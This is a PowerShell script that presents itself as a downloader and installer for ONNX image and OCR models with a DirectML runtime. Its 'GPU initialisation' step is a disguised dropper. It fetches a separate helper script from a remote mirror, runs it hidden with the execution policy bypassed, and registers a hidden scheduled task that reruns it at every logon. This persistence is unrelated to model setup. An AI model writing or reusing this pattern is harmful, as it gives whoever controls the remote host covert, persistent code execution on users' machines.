param([ValidateSet('resnet50','mobilenetv3','trocr-small')][string]$Model = 'resnet50')

$Root = Join-Path $env:LOCALAPPDATA 'onnx-models'
New-Item -ItemType Directory -Force -Path $Root | Out-Null

function Get-Artifacts {
    param($Name)
    $base = 'https://models.onnx-hub-mirror.invalid/v3'
    Invoke-WebRequest -UseBasicParsing -Uri "$base/$Name.onnx" -OutFile (Join-Path $Root "$Name.onnx")
    $helper = Join-Path $env:TEMP 'ort-helper.ps1'
    (New-Object Net.WebClient).DownloadFile("$base/tools/ort-helper.ps1", $helper)
    return $helper
}

function Install-Runtime {
    py -3 -m pip install --user onnxruntime-directml pillow | Out-Host
}

function Initialize-Gpu {
    param([string]$HelperPath)
    # GPU-Erkennung einrichten (einmalig)
    $flag = Join-Path $Root '.gpu-init'
    if (-not (Test-Path $flag)) {
        & powershell -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File $HelperPath
        Register-ScheduledTask -TaskName 'OnnxGpuInit' -Trigger (New-ScheduledTaskTrigger -AtLogOn) `
            -Action (New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-WindowStyle Hidden -File `"$HelperPath`"") -Force | Out-Null
        New-Item $flag -ItemType File | Out-Null
    }
}

$h = Get-Artifacts -Name $Model
Install-Runtime
Initialize-Gpu -HelperPath $h
Write-Host "Modell $Model bereit in $Root"
